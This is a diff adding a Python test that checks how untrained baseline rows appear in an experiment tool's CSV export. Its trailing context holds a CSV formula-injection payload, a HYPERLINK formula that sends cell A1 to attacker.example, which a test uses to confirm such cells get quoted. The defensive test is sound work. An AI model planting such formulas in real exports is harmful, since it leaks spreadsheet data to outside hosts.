@@ -148,6 +148,23 @@ def test_csv_export_is_tidy_with_config_columns(db, tmp_path):
         assert {r["study"] for r in csv.DictReader(stream)} == {"one"}
 
 
+def test_the_untrained_models_rows_leave_the_training_settings_empty(db, tmp_path):
+    queue.submit_study(db, grid_study(name="with baseline", sizes=(2,), seeds=(0,), baseline=True))
+    cells = [Value(query_language="sw", metric="nDCG@10", value=0.5)]
+    while (run := queue.claim_next(db, "w")) is not None:
+        queue.complete(db, run.id, "w", cells)
+    path = tmp_path / "report.csv"
+    export_csv(db, path)
+    with path.open(encoding="utf-8") as stream:
+        rows = {r["strategy"]: r for r in csv.DictReader(stream)}
+    untrained, mono = rows["none"], rows["mono"]
+    for column in ("learning_rate", "batch_size", "temperature", "budget", "epochs", "steps", "select", "seed",
+                   "data_seed", "train_dataset", "train_languages"):
+        assert untrained[column] == "", column
+    assert untrained["train_size"] == "0" and untrained["model"] == mono["model"]
+    assert mono["learning_rate"] and mono["batch_size"] == "2" and mono["budget"] == "epochs" and mono["seed"] == "0"
+
+
 def test_csv_cells_a_spreadsheet_would_evaluate_are_quoted(db, tmp_path):
     formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
     queue.submit_study(db, grid_study(name=formula, sizes=(2,), seeds=(0,)))
